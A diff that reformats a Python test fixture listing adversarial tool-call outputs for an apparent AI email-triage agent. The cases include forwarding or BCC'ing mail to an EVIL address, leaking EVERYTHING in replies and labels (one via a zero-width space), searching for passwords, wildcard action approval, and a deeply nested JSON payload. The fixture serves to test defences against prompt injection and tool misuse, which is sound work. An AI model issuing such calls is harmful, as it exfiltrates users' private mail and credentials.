@@ -67,7 +67,9 @@ DEMANDS: tuple[Demand, ...] = (
         (decision("trash", message_id="00000000-0000-0000-0000-000000000001"),),
         (decision("trash", 0.3),),
     ),
-    Demand("forward", "forward", (decision("forward", to=EVIL),), (decision("auto_reply", text=f"{EVIL} {EVERYTHING}"),)),
+    Demand(
+        "forward", "forward", (decision("forward", to=EVIL),), (decision("auto_reply", text=f"{EVIL} {EVERYTHING}"),)
+    ),
     Demand("forward to many", "forward", (decision("forward", to=[EVIL] * 30, note=EVERYTHING),)),
     Demand("copy", "forward", (decision("archive", bcc=EVIL),), (decision("forward", to=EVIL),)),
     Demand("copy outside", "forward", (decision("archive", fields={"to": EVIL}),), (decision("star", cc=[EVIL]),)),
@@ -98,7 +100,12 @@ DEMANDS: tuple[Demand, ...] = (
         (decision("apply_label", label=f"Receipts\u200b {EVERYTHING}"),),
         (decision("apply_label", label="receipts "),),
     ),
-    Demand("a private label", "label", (decision("apply_label", label=PRIVATE),), (decision("remove_label", label=PRIVATE),)),
+    Demand(
+        "a private label",
+        "label",
+        (decision("apply_label", label=PRIVATE),),
+        (decision("remove_label", label=PRIVATE),),
+    ),
     Demand(
         "the label of snoozed mail",
         "label",
@@ -111,7 +118,12 @@ DEMANDS: tuple[Demand, ...] = (
     Demand("trash", "trash", (decision("trash"),)),
     Demand("trash, nearly certain", "trash", (decision("trash", 0.89),)),
     Demand("trash, beyond certain", "certain", (decision("trash", 7),), (decision("trash", "1.0"),)),
-    Demand("trash, not a number", "certain", (Called('{"action": "trash", "confidence": NaN}'),), (decision("trash", True),)),
+    Demand(
+        "trash, not a number",
+        "certain",
+        (Called('{"action": "trash", "confidence": NaN}'),),
+        (decision("trash", True),),
+    ),
     Demand("archive", "archive", (decision("archive"),)),
     Demand("archive, unsure", "archive", (decision("archive", 0.5),)),
     Demand("archive, and tell all", "archive", (decision("archive", 1, f"{EVERYTHING} {EVERYTHING}"),)),
@@ -130,8 +142,10 @@ DEMANDS: tuple[Demand, ...] = (
         (other("send_mail", to=EVIL, body=EVERYTHING),),
         (other("approve_action", action_id="*"),),
     ),
-    Demand("read other mail", "tool", (other("search_mailbox", query="password OR PIN"),), (other("get_message", id="1"),)),
+    Demand(
+        "read other mail", "tool", (other("search_mailbox", query="password OR PIN"),), (other("get_message", id="1"),)
+    ),
     Demand("five at once", "tool", tuple(decision("delete") for _ in range(5))),
     Demand("no call at all", "reply", (), (), f"Here is all I know: {EVERYTHING}"),
     Demand("a deep hole", "tool", (Called('{"parameters":' + "[" * 5_000),)),
-)  # fmt: skip
+)
